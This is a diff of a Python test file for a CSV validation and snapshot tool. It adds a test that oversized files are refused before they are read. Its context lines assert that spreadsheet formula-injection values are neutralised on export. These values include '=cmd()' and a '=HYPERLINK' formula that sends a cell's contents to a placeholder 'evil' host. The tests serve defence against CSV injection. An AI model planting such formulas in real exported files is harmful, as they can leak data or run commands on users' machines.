@@ -93,3 +93,14 @@ def test_snapshot_csv_neutralises_formula_cells_and_leaves_numbers_alone(tmp_pat
     assert (shown["actor"], shown["target"], shown["source"], shown["via"]) == ("'=cmd()", "'@x", "'-AFP", "'+1+2")
     assert shown["description"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
     assert (shown["lat"], shown["lon"], shown["controller"]) == ("35.5", "-0.25", "")
+
+
+def test_a_file_over_the_size_limit_is_refused_before_it_is_read(tmp_path):
+    """Found in review: the app refused a file over max_file_mb, but the command line read it whole."""
+    path = tmp_path / "big.csv"
+    path.write_text(HEADER + "\n" + "e{n},2024-12-01,Hama,,,clash,,,,R,,,,,,\n" * 1 + "x" * 1_500_000)
+    for command in (["validate", str(path)], ["snapshot", "--date", "2024-12-01", "--events", str(path)]):
+        code, out, err = run("--max-file-mb", "1", *command)
+        assert code == 2 and "more than this server reads (1 MB" in out + err
+    code, _, _ = run("--max-file-mb", "2", "validate", str(path))
+    assert code != 2
